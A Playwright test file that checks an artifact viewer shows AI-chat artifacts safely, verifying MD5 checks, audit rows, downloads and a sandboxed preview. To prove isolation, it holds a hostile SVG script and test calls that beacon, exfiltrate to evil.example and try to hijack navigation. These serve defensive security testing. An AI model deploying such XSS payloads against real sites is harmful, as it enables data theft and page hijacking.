import type { Frame, Page } from "@playwright/test";
import { createHash } from "node:crypto";
import { readFile } from "node:fs/promises";
import { ArtifactVersionView } from "@/lib/schemas/artifacts";
import { HOSTILE_ARTIFACT_TITLE, HOSTILE_DOCUMENT_FILENAME, HOSTILE_SNIPPETS, SCRIPTED_SVG_ARTIFACT } from "@/lib/simulator/dataset/hostile";
import { expect, readAuditRows, test } from "./support/fixtures";
import { SMALL_SEED_1_ARTIFACTS as IDS, SMALL_SEED_1_PREVIEW_CORPUS as CORPUS } from "@/tests/support/simulator-ids";
import { stackInfo, type SeededSession } from "./support/stack";

const previewPath = (versionId: string) => `/api/artifacts/${versionId}/preview`;
/** The one page the artifact sandbox origin serves; every preview frame loads it and nothing else. */
const rendererUrl = () => `${stackInfo().sandboxOrigin}/renderer`;

/** An SVG that tries everything an artifact should never manage; served under the real preview's headers below. */
const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="80" onload="window.__svgOnload = 1">
<script>
  window.__xss = 1;
  try { parent.__xss = 1; } catch (error) {}
  try { top.location = "https://evil.example/top"; } catch (error) {}
  fetch("/api/chats").catch(() => {});
  fetch("https://evil.example/beacon").catch(() => {});
  new Image().src = "https://evil.example/pixel.png";
  document.documentElement.setAttribute("data-ran-in", String(self.origin));
</script>
<image href="https://evil.example/image.png" width="10" height="10"/>
<text x="10" y="40">hostile</text>
</svg>`;

/** Run inside a page or frame: an opaque origin may not touch cookies, nor its parent's document. */
const readCookie = () => {
  try {
    return `read: ${document.cookie}`;
  } catch (error) {
    return `refused: ${(error as Error).name}`;
  }
};
const readParentTitle = () => {
  try {
    return `read: ${parent.document.title}`;
  } catch (error) {
    return `refused: ${(error as Error).name}`;
  }
};

let reviewer: SeededSession;

test.beforeEach(async ({ signedInAs }) => {
  reviewer = await signedInAs("reviewer");
});

/**
 * Every request the page and its frames start, and every dialog anything opens. A request the browser
 * blocks itself (CSP) never leaves it. The page may reach its own origin (but never /api/chats), and a
 * preview frame may load the sandbox renderer and nothing else: anything more is a leak.
 */
function watch(page: Page) {
  const started: Array<{ url: string; isFromPreview: boolean; isRendererDocument: boolean; cookie: Promise<string | undefined> }> = [];
  const blockedByBrowser = new Set<string>();
  const dialogs: string[] = [];
  page.on("request", (request) => {
    const isFromPreview = request.frame() !== page.mainFrame();
    const isRendererDocument = isFromPreview && request.isNavigationRequest() && request.url() === rendererUrl();
    started.push({
      url: request.url(),
      isFromPreview,
      isRendererDocument,
      cookie: request.allHeaders().then(
        (headers) => headers.cookie,
        () => undefined,
      ),
    });
  });
  page.on("requestfailed", (request) => {
    if (["csp", "net::ERR_BLOCKED_BY_CSP"].includes(request.failure()?.errorText ?? "")) blockedByBrowser.add(request.url());
  });
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  return {
    dialogs,
    rendererLoads: () => started.filter((request) => request.isRendererDocument).map((request) => request.url),
    /** The cookies the browser sent with each renderer load: none, since the sandbox is another site. */
    rendererCookies: () => Promise.all(started.filter((request) => request.isRendererDocument).map((request) => request.cookie)),
    previewSourceReads: () =>
      started.filter((request) => !request.isFromPreview && new URL(request.url).pathname.endsWith("/preview")).map((request) => request.url),
    leaked: () =>
      started
        .filter((request) => !blockedByBrowser.has(request.url))
        .filter((request) =>
          request.isFromPreview ? !request.isRendererDocument : !request.url.startsWith(stackInfo().appUrl) || new URL(request.url).pathname === "/api/chats",
        )
        .map((request) => request.url),
  };
}

/** The reviewer's audited acts of one kind on one object. */
const auditRowsOf = (action: string, targetId: string) => readAuditRows({ subject: reviewer.subject, action, targetId });

/** Runs the preview and returns its frame once the renderer has written the artifact into itself. */
async function previewFrame(page: Page): Promise<Frame> {
  await page.getByRole("button", { name: "Run live preview" }).click();
  await expect(page.locator(`iframe[src="${rendererUrl()}"]`)).toHaveAttribute("sandbox", "allow-scripts");
  await expect.poll(() => page.frames().find((frame) => frame.url() === rendererUrl())).toBeDefined();
  const frame = page.frames().find((candidate) => candidate.url() === rendererUrl())!;
  await expect.poll(() => frame.evaluate(() => document.title).catch(() => "")).not.toBe("Artifact preview");
  return frame;
}

test("a markdown version shows formatted, its facts and a verified MD5; the read is audited with its outcome", async ({ page }) => {
  const versionId = IDS.markdown[2];
  await page.goto(`/artifacts/${versionId}`);
  await expect(page.getByRole("article", { name: "Launch Plan" })).toBeVisible();
  await expect(page.getByRole("status", { name: "MD5 check" })).toContainText("MD5 verified");
  await expect(page.getByRole("status", { name: "MD5 check" })).toContainText("the metadata's md5 and the Content-MD5 header");
  await expect(page.getByText(versionId, { exact: true })).toBeVisible();
  const content = page.getByRole("region", { name: "Content" });
  await expect(content.getByRole("heading", { name: "Risks" })).toBeVisible();
  await content.getByRole("button", { name: "Source" }).click();
  await expect(content.getByText("## Risks")).toBeVisible();

  await expect
    .poll(() => auditRowsOf("artifact.view", versionId))
    .toEqual([
      expect.objectContaining({
        targetType: "artifact_version",
        outcome: "success",
        params: expect.objectContaining({ md5: "verified", cut: false, artifactId: expect.any(String) }),
      }),
    ]);
});

test("the artifact's versions are listed in order, and any two can be compared line by line", async ({ page }) => {
  await page.goto(`/artifacts/${IDS.markdown[1]}`);
  const versions = page.getByRole("region", { name: /^Versions/ });
  await expect(versions.getByRole("link", { name: /^Version \d$/ })).toHaveText(["Version 1", "Version 2", "Version 3"]);
  await expect(versions.getByRole("link", { name: "Version 2" })).toHaveAttribute("aria-current", "page");
  for (const [index, versionId] of IDS.markdown.entries()) {
    await expect(versions.getByRole("link", { name: `Version ${index + 1}` })).toHaveAttribute("href", `/artifacts/${versionId}`);
  }
  await expect(versions.getByRole("link", { name: "Message in the chat" }).first()).toHaveAttribute(
    "href",
    new RegExp(`^/chats/${IDS.chat}\\?message=claude_chat_msg_`),
  );
  // Nothing of another version is read until the reviewer asks for the comparison.
  expect(await auditRowsOf("artifact.view", IDS.markdown[0])).toEqual([]);

  await versions.getByLabel("Compare").selectOption({ label: "Version 1" });
  await versions.getByLabel("with").selectOption({ label: "Version 3" });
  await versions.getByRole("button", { name: "Show differences" }).click();
  const differences = page.getByRole("region", { name: "Differences" });
  await expect(differences.getByRole("status")).toHaveText(/^0 lines removed, \d+ lines added\.$/);
  await expect(differences.locator('tr[data-change="added"]', { hasText: "## Timeline" })).toHaveCount(1);
  await expect(differences.locator('tr[data-change="added"]', { hasText: "## Risks" })).toHaveCount(1);
  await expect(differences.locator('tr[data-change="removed"]')).toHaveCount(0);

  await expect.poll(() => auditRowsOf("artifact.view", IDS.markdown[0])).toHaveLength(1);
  await expect.poll(() => auditRowsOf("artifact.view", IDS.markdown[2])).toHaveLength(1);
});

test("code is highlighted, and HTML, SVG and React are shown as source that never runs on the page", async ({ page }) => {
  const watched = watch(page);
  await page.goto(`/artifacts/${IDS.code[1]}`);
  const code = page.getByRole("region", { name: "Content" });
  await expect(code).toContainText("def discount(total: float, seats: int) -> float:");
  await expect(code.locator("pre code span.token.keyword", { hasText: "def" }).first()).toBeVisible();

  for (const versionId of [IDS.html[1], IDS.svg[0], IDS.react[1], IDS.hostileHtml]) {
    await page.goto(`/artifacts/${versionId}`);
    await expect(page.getByRole("status", { name: "MD5 check" })).toContainText("MD5 verified");
    await expect(page.getByText("Shown as source: the artifact's code does not run on this page.")).toBeVisible();
    await expect(page.locator("iframe")).toHaveCount(0);
  }
  await expect(page.getByRole("region", { name: "Content" })).toContainText(HOSTILE_SNIPPETS[1]!);
  await expect(page.getByRole("article", { name: HOSTILE_ARTIFACT_TITLE })).toBeVisible();

  await page.goto(`/artifacts/${IDS.react[1]}`);
  await expect(page.getByRole("region", { name: "Content" })).toContainText("const [seats, setSeats] = useState(10);");
  await expect(page.getByText("React artifacts are shown as source only")).toBeVisible();
  await expect(page.getByRole("button", { name: "Run live preview" })).toHaveCount(0);

  expect(await page.evaluate(() => (window as { __xss?: unknown }).__xss)).toBeUndefined();
  expect(watched.dialogs).toEqual([]);
  expect(watched.leaked()).toEqual([]);
});

test("an HTML preview runs its script inside the sandbox only: no cookie, no network, nothing on the app origin", async ({ page }) => {
  const watched = watch(page);
  const versionId = IDS.html[1];
  await page.goto(`/artifacts/${versionId}`);
  await expect(page.getByRole("region", { name: "Content" })).toContainText('fetch("https://evil.example/beacon")');
  await expect(page.locator("iframe")).toHaveCount(0);
  const appTitle = await page.title();

  const frame = await previewFrame(page);
  // The artifact's script did run (it sets its own title): the isolation below is not for want of running.
  await expect.poll(() => frame.evaluate(() => document.title)).toBe("v2");
  await expect(frame.getByRole("heading", { name: "Acme launch 2" })).toBeVisible();
  expect(await frame.evaluate(() => self.origin)).toBe("null");
  expect(await frame.evaluate(readCookie)).toBe("refused: SecurityError");
  expect(await frame.evaluate(readParentTitle)).toBe("refused: SecurityError");
  expect(
    await frame.evaluate(() =>
      fetch("/api/chats").then(
        () => "fetched",
        () => "refused",
      ),
    ),
  ).toBe("refused");
  expect(
    await frame.evaluate(() =>
      fetch("https://evil.example/exfiltrate").then(
        () => "fetched",
        () => "refused",
      ),
    ),
  ).toBe("refused");

  expect(await page.title()).toBe(appTitle);
  expect(await page.evaluate(() => (window as { __xss?: unknown }).__xss)).toBeUndefined();
  expect(watched.rendererLoads()).toEqual([rendererUrl()]);
  expect(await watched.rendererCookies()).toEqual([undefined]);
  expect(watched.previewSourceReads()).toEqual([`${stackInfo().appUrl}${previewPath(versionId)}`]);
  expect(watched.leaked()).toEqual([]);
  expect(watched.dialogs).toEqual([]);
  await expect
    .poll(() => auditRowsOf("artifact.view", versionId))
    .toEqual([
      expect.objectContaining({ params: expect.objectContaining({ md5: "verified", cut: false }) }),
      expect.objectContaining({ params: expect.objectContaining({ md5: "verified", preview: "served" }) }),
    ]);
});

test("a preview cannot navigate itself or the page away: a link or a script in it reaches nothing", async ({ page }) => {
  const watched = watch(page);
  const versionId = IDS.html[1];
  // The frame's own navigations are attempted and blocked (the frame then shows the browser's error
  // page); the sandbox refuses to navigate the top page outright.
  for (const { leave, isAttempted } of [
    { leave: (frame: Frame) => frame.getByRole("link", { name: "Acme" }).click(), isAttempted: true },
    { leave: (frame: Frame) => frame.evaluate(() => void (location.href = "https://evil.example/navigate")), isAttempted: true },
    { leave: (frame: Frame) => frame.evaluate(() => void (top!.location.href = "https://evil.example/top")).catch(() => undefined), isAttempted: false },
  ]) {
    await page.goto(`/artifacts/${versionId}`);
    const frame = await previewFrame(page);
    await expect(frame.getByRole("heading", { name: "Acme launch 2" })).toBeVisible();
    await leave(frame);
    if (isAttempted) await expect(frame.getByRole("heading", { name: "Acme launch 2" })).toHaveCount(0);
    await expect(page.getByRole("article", { name: "Landing page" })).toBeVisible();
    expect(page.url()).toBe(`${stackInfo().appUrl}/artifacts/${versionId}`);
  }
  expect(watched.leaked()).toEqual([]);
  expect(watched.dialogs).toEqual([]);
});

test("the hostile chat's HTML artifact runs in the preview without a dialog, an image or its full-page frame reaching out", async ({ page }) => {
  const watched = watch(page);
  await page.goto(`/artifacts/${IDS.hostileHtml}`);
  const frame = await previewFrame(page);
  await expect(frame.getByRole("heading", { name: "Acme launch 1" })).toBeVisible();
  await expect.poll(() => frame.evaluate(() => document.title)).toBe("v1");
  await expect(page.getByRole("article", { name: HOSTILE_ARTIFACT_TITLE })).toBeVisible();
  expect(await page.evaluate(() => (window as { __xss?: unknown }).__xss)).toBeUndefined();
  expect(watched.leaked()).toEqual([]);
  expect(watched.dialogs).toEqual([]);
});

test("an SVG artifact's preview draws it, in the same sandbox", async ({ page }) => {
  const watched = watch(page);
  await page.goto(`/artifacts/${IDS.svg[0]}`);
  await expect(page.getByRole("region", { name: "Content" })).toContainText('<svg xmlns="http://www.w3.org/2000/svg"');
  const frame = await previewFrame(page);
  await expect(frame.locator("svg > text")).toHaveText("A1");
  expect(await frame.evaluate(() => self.origin)).toBe("null");
  expect(watched.rendererLoads()).toEqual([rendererUrl()]);
  expect(watched.leaked()).toEqual([]);
});

test("an SVG with a script, under the preview's own headers, runs in an opaque origin and reaches nothing", async ({ page }) => {
  const watched = watch(page);
  const versionId = IDS.svg[0];
  await page.route(`**${previewPath(versionId)}`, async (route) => {
    const response = await route.fetch();
    expect(response.headers()["content-security-policy"]).toContain("sandbox allow-scripts");
    await route.fulfill({ response, body: HOSTILE_SVG });
  });
  await page.goto(`/artifacts/${versionId}`);
  const frame = await previewFrame(page);
  await expect.poll(() => frame.evaluate(() => document.documentElement.getAttribute("data-ran-in"))).toBe("null");
  expect(await frame.evaluate(() => (window as { __xss?: unknown }).__xss)).toBe(1);
  expect(await page.evaluate(() => (window as { __xss?: unknown }).__xss)).toBeUndefined();
  expect(page.url()).toBe(`${stackInfo().appUrl}/artifacts/${versionId}`);
  expect(watched.leaked()).toEqual([]);
  expect(watched.dialogs).toEqual([]);
});

test("the dataset's scripted SVG artifact is source on the page, and in its opt-in preview its script runs only in an opaque origin and reaches nothing", async ({
  page,
}) => {
  const watched = watch(page);
  const [versionId] = CORPUS.scriptedSvgArtifact;
  await page.goto(`/artifacts/${versionId}`);
  await expect(page.getByRole("article", { name: "Approval stamp" })).toBeVisible();
  await expect(page.getByRole("status", { name: "MD5 check" })).toContainText("MD5 verified");
  const content = page.getByRole("region", { name: "Content" });
  await expect(content).toContainText(SCRIPTED_SVG_ARTIFACT.split("\n")[1]!);
  await expect(content).toContainText('onclick="window.__xss=1"');
  await expect(page.getByText("Shown as source: the artifact's code does not run on this page.")).toBeVisible();
  await expect(page.locator("main svg, main iframe")).toHaveCount(0);
  expect(await page.evaluate(() => (window as { __xss?: unknown }).__xss)).toBeUndefined();

  const frame = await previewFrame(page);
  // Its script ran (it marks the document with its origin): what follows holds although it ran.
  await expect.poll(() => frame.evaluate(() => document.documentElement.getAttribute("data-ran-in"))).toBe("null");
  await expect(frame.locator("svg text")).toHaveText("Approved");
  await frame.locator("svg rect").click({ position: { x: 30, y: 20 } });
  expect(await frame.evaluate(readParentTitle)).toBe("refused: SecurityError");
  expect(await page.evaluate(() => (window as { __xss?: unknown }).__xss)).toBeUndefined();
  expect(page.url()).toBe(`${stackInfo().appUrl}/artifacts/${versionId}`);
  expect(watched.rendererLoads()).toEqual([rendererUrl()]);
  expect(await watched.rendererCookies()).toEqual([undefined]);
  expect(watched.previewSourceReads()).toEqual([`${stackInfo().appUrl}${previewPath(versionId)}`]);
  expect(watched.leaked()).toEqual([]);
  expect(watched.dialogs).toEqual([]);
});

test("a code artifact of 30,000 lines and 2.5 MiB stays usable: cut and said to be, shown unhighlighted, and its versions not diffed in part", async ({
  page,
}) => {
  const [older, newer] = CORPUS.largeCodeArtifact;
  await page.goto(`/artifacts/${newer}`);
  await expect(page.getByRole("article", { name: "ledger_export.py" })).toBeVisible();
  const content = page.getByRole("region", { name: "Content" });
  await expect(content).toContainText("Cut for display:");
  await expect(content.getByRole("note").filter({ hasText: /^Shown without highlighting: it has \d{2},\d{3} lines/ })).toContainText(
    "Docket highlights at most 5,000 lines",
  );
  await expect(content).toContainText('    {"row": 1, "account": "ACC-000001"');
  // One text node in one <pre>, however long the text: nothing per line or per token.
  expect(await content.locator("pre").count()).toBe(1);
  expect(await content.locator("pre *").count()).toBe(0);

  const versions = page.getByRole("region", { name: /^Versions/ });
  await expect(versions.getByRole("link", { name: /^Version \d$/ })).toHaveText(["Version 1", "Version 2"]);
  await versions.getByLabel("Compare").selectOption({ label: "Version 1" });
  await versions.getByLabel("with").selectOption({ label: "Version 2 (this one)" });
  await versions.getByRole("button", { name: "Show differences" }).click();
  await expect(page.getByRole("region", { name: "Differences" })).toContainText("Not compared: a version is larger than Docket shows");
  await expect(page.getByRole("region", { name: "Differences" }).locator("tr")).toHaveCount(0);
  await expect.poll(() => auditRowsOf("artifact.view", older)).toHaveLength(1);
});

test("an artifact version downloads whole, even past what the page shows, MD5-checked and audited as artifact.download", async ({ page }) => {
  const versionId = CORPUS.largeCodeArtifact[1];
  const view = ArtifactVersionView.parse(await (await page.request.get(`/api/artifacts/${versionId}`)).json());
  await page.goto(`/artifacts/${versionId}`);
  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("link", { name: "Download", exact: true }).click()]);
  expect(download.suggestedFilename()).toBe("ledger_export.py.txt");
  expect(await download.failure()).toBeNull();
  const bytes = await readFile((await download.path())!);
  expect(bytes.length).toBe(view.integrity.declaredBytes);
  expect(bytes.length).toBeGreaterThan(view.content.shownBytes);
  expect(createHash("md5").update(bytes).digest("hex")).toBe(view.integrity.metadataMd5);

  const response = await page.request.get(`/api/artifacts/${IDS.svg[0]}/download`);
  expect(response.headers()).toMatchObject({
    "content-type": "application/octet-stream",
    "x-content-type-options": "nosniff",
    "content-security-policy": "sandbox; default-src 'none'; frame-ancestors 'none'",
  });
  expect(response.headers()["content-disposition"]).toMatch(/^attachment; filename="Logo concept\.svg"; /);

  await expect
    .poll(() => auditRowsOf("artifact.download", versionId))
    .toEqual([
      expect.objectContaining({
        targetType: "artifact_version",
        outcome: "intent",
        params: expect.objectContaining({ expectedMd5: view.integrity.metadataMd5 }),
      }),
      expect.objectContaining({ targetType: "artifact_version", outcome: "success", params: expect.objectContaining({ md5: "matched", bytes: bytes.length }) }),
    ]);
});

test("opened directly, the renderer has an opaque origin, and ignores a message that does not come from Docket's origin", async ({ page }) => {
  const response = await page.goto(rendererUrl());
  expect(await page.evaluate(() => self.origin)).toBe("null");
  const policy = response!.headers()["content-security-policy"]!;
  for (const directive of ["sandbox allow-scripts", "default-src 'none'", "connect-src 'none'", `frame-ancestors ${stackInfo().appUrl}`])
    expect(policy).toContain(directive);
  expect(policy).not.toContain("allow-same-origin");
  expect(response!.headers()["set-cookie"]).toBeUndefined();
  // The test's own listener runs after the renderer's, so once it has the message, the renderer has judged it.
  await page.evaluate(
    () =>
      new Promise<void>((resolve) => {
        window.addEventListener("message", () => resolve(), { once: true });
        window.postMessage({ type: "docket:render-artifact", kind: "html", text: "<title>injected</title><h1>injected</h1>" }, "*");
      }),
  );
  expect(await page.title()).toBe("Artifact preview");
  await expect(page.getByRole("heading", { name: "injected" })).toHaveCount(0);
});

test("opened directly, the preview source is a plain-text download, never a page on Docket's origin, and still sandboxed", async ({ page }) => {
  const watched = watch(page);
  await page.goto("/");
  const downloading = page.waitForEvent("download");
  // Navigating to an attachment is aborted in favour of the download.
  await page.goto(previewPath(IDS.html[1])).catch((error: unknown) => expect(String(error)).toContain("Download is starting"));
  const download = await downloading;
  expect(download.suggestedFilename()).toBe("artifact-preview.html.txt");
  expect(await readFile((await download.path())!, "utf8")).toContain("v2");
  expect(new URL(page.url()).pathname).toBe("/");
  expect(watched.leaked()).toEqual([]);

  const response = await page.request.get(previewPath(IDS.html[1]));
  expect(response.headers()).toMatchObject({
    "content-type": "text/plain; charset=utf-8",
    "content-disposition": 'attachment; filename="artifact-preview.html.txt"',
    "x-docket-artifact-type": "text/html; charset=utf-8",
    "x-content-type-options": "nosniff",
    "referrer-policy": "no-referrer",
    "cache-control": "no-store",
  });
  const policy = response.headers()["content-security-policy"]!;
  for (const directive of ["sandbox allow-scripts", "default-src 'none'", "connect-src 'none'", "form-action 'none'", "frame-ancestors 'none'"])
    expect(policy).toContain(directive);
  expect(policy).not.toContain("allow-same-origin");
});

test("a markdown or React artifact has no preview to serve", async ({ page }) => {
  for (const versionId of [IDS.markdown[0], IDS.react[0]]) {
    const response = await page.request.get(previewPath(versionId));
    expect(response.status()).toBe(404);
    expect(response.headers()["content-security-policy"]).toContain("sandbox allow-scripts");
  }
});

test("a version whose MD5 does not match is shown with a loud warning, is not previewed, and is audited as a mismatch", async ({ page, simulator }) => {
  const versionId = IDS.html[0];
  await simulator.setFaults([{ match: { path: `/v1/compliance/apps/artifacts/${versionId}/content` }, times: 1, fault: { type: "wrong_md5" } }]);
  try {
    await page.goto(`/artifacts/${versionId}`);
    const alert = page.getByRole("alert", { name: "MD5 check" });
    await expect(alert).toContainText("MD5 mismatch: this is not the content the API describes.");
    await expect(alert).toContainText("Content-MD5 header");
    await expect(page.getByRole("button", { name: "Run live preview" })).toHaveCount(0);
    await expect(page.getByText("Not available: the content does not match its MD5")).toBeVisible();
    await expect
      .poll(() => auditRowsOf("artifact.view", versionId))
      .toEqual([expect.objectContaining({ params: expect.objectContaining({ md5: "mismatch" }) })]);
  } finally {
    await simulator.clearFaults();
  }
});

test("a project document shows its text as text, its facts and a verified MD5; the read is audited", async ({ page }) => {
  const watched = watch(page);
  await page.goto(`/project-documents/${IDS.hostileDocument}`);
  await expect(page.getByRole("article", { name: HOSTILE_DOCUMENT_FILENAME })).toBeVisible();
  await expect(page.getByRole("status", { name: "MD5 check" })).toContainText("MD5 verified");
  const content = page.getByRole("region", { name: "Content" });
  await expect(content).toContainText("# Vendor onboarding notes");
  await expect(content).toContainText(HOSTILE_SNIPPETS[1]!);
  await expect(content.locator("img, iframe, svg, script")).toHaveCount(0);
  await expect(page.getByRole("link", { name: /^claude_proj_/ })).toHaveAttribute("href", /^\/projects\/claude_proj_/);
  expect(await page.evaluate(() => (window as { __xss?: unknown }).__xss)).toBeUndefined();
  expect(watched.dialogs).toEqual([]);
  expect(watched.leaked()).toEqual([]);
  await expect
    .poll(() => auditRowsOf("document.view", IDS.hostileDocument))
    .toEqual([
      expect.objectContaining({
        targetType: "project_document",
        outcome: "success",
        params: expect.objectContaining({ md5: "verified", projectId: expect.any(String) }),
      }),
    ]);

  await page.goto(`/project-documents/${IDS.projectDocument}`);
  await expect(page.getByRole("article", { name: "glossary – terms.md" })).toBeVisible();
  await expect(page.getByRole("status", { name: "MD5 check" })).toContainText("MD5 verified");
});

test("the thread's artifact chips and the project's documents open these views", async ({ page }) => {
  await page.goto(`/chats/${IDS.chat}`);
  await page.getByRole("link", { name: "Artifact: Launch Plan" }).first().click();
  await expect(page).toHaveURL(new RegExp(`/artifacts/${IDS.markdown[0]}$`));
  await expect(page.getByRole("article", { name: "Launch Plan" })).toBeVisible();

  await page.goto(`/projects/${IDS.documentsProject}`);
  await page.getByRole("region", { name: "Attachments" }).getByRole("link", { name: "glossary – terms.md" }).click();
  await expect(page).toHaveURL(new RegExp(`/project-documents/${IDS.projectDocument}$`));
  await expect(page.getByRole("status", { name: "MD5 check" })).toContainText("MD5 verified");
});
